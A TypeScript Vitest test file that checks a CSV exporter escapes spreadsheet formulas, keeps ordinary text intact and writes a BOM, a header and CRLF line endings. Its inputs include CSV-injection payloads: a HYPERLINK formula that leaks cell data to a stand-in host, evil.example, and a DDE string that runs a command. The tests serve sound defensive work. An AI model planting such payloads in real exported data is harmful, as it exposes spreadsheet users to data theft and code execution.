import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { toCsv } from '#publish/open-data/csv.ts';

function cellOf(text: string): string {
  const csv = toCsv([{ name: 'text', cell: (row: string) => row }], [text]);
  const [, [cell] = []] = parse(csv, { bom: true, record_delimiter: '\r\n' });
  return cell ?? '';
}

describe('toCsv', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "-2+3+cmd|' /C calc'!A0",
  ])('keeps spreadsheets from running %j', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  test.each(['a, b', 'a "b" c', 'a\nb', 'a\r\nb', '“é” – 東京', "it's = x", ''])('gives %j back', (text) => {
    expect(cellOf(text)).toBe(text);
  });

  test('begins with a byte order mark and a header, and ends lines as RFC 4180 does', () => {
    const columns = [
      { name: 'a', cell: () => true },
      { name: 'b', cell: () => null },
      { name: 'c', cell: () => ['x', 'y'] },
    ];
    expect(toCsv(columns, [{}])).toBe('\ufeffa,b,c\r\ntrue,,x y\r\n');
  });
});
